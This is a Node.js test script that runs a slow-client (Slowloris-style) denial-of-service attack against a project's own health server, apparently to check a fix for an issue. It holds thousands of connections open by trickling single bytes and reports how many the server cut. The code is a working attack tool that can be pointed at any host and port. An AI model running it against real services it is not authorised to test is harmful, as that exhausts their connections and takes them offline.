#!/usr/bin/env node
// Opens many connections to host:port and keeps each alive by sending one byte every --every ms,
// never finishing a request: the slow-client attack on the sniffer's health server (issue #17).
// A connection the server refused or cut off is replaced after --pause ms (a slow attacker, not a
// connect flood: that one fills the kernel's accept queue whatever the server does).
// Bounded: --count connections at most, --concurrency connecting at once; it ends --settle ms after
// the last connection was tried but not before --hold ms, and after --limit ms in any case, closing
// what is still open. Prints one JSON line: attempted, connected, failed, cut (closed by the
// server), openMax (most open at once), openAtEnd.
import { connect } from 'node:net'
import { parseArgs } from 'node:util'

const { values: o } = parseArgs({ options: { host: { type: 'string' }, port: { type: 'string' }, count: { type: 'string', default: '10000' }, every: { type: 'string', default: '8000' }, hold: { type: 'string', default: '20000' }, settle: { type: 'string', default: '8000' }, limit: { type: 'string', default: '180000' }, concurrency: { type: 'string', default: '200' }, pause: { type: 'string', default: '500' } } })
const count = Number(o.count)
const every = Number(o.every)
const stats = { attempted: 0, connected: 0, failed: 0, cut: 0, openMax: 0, openAtEnd: 0 }
const open = new Set()
let stopping = false

function one () {
  return new Promise((resolve) => {
    stats.attempted++
    const s = connect({ host: o.host, port: Number(o.port) })
    let timer
    s.on('connect', () => {
      stats.connected++
      open.add(s)
      if (open.size > stats.openMax) stats.openMax = open.size
      s.write('G')
      timer = setInterval(() => { s.write('E') }, every)
      resolve()
    })
    s.on('error', () => {})
    s.on('data', () => {})
    s.on('close', () => {
      clearInterval(timer)
      if (open.delete(s)) { if (!stopping) stats.cut++ } else { stats.failed++; resolve() }
    })
  })
}

const started = Date.now()
const finish = () => {
  stopping = true
  stats.openAtEnd = open.size
  for (const s of open) s.destroy()
  process.stdout.write(JSON.stringify(stats) + '\n')
  process.exit(0)
}
setTimeout(finish, Number(o.limit))
let next = 0
const pause = () => new Promise((resolve) => setTimeout(resolve, Number(o.pause)))
const worker = async () => { while (next < count && !stopping) { next++; await one(); await pause() } }
await Promise.all(Array.from({ length: Number(o.concurrency) }, worker))
process.stderr.write(`all ${stats.attempted} attempted after ${Date.now() - started} ms\n`)
setTimeout(finish, Math.max(Number(o.settle), Number(o.hold) - (Date.now() - started)))
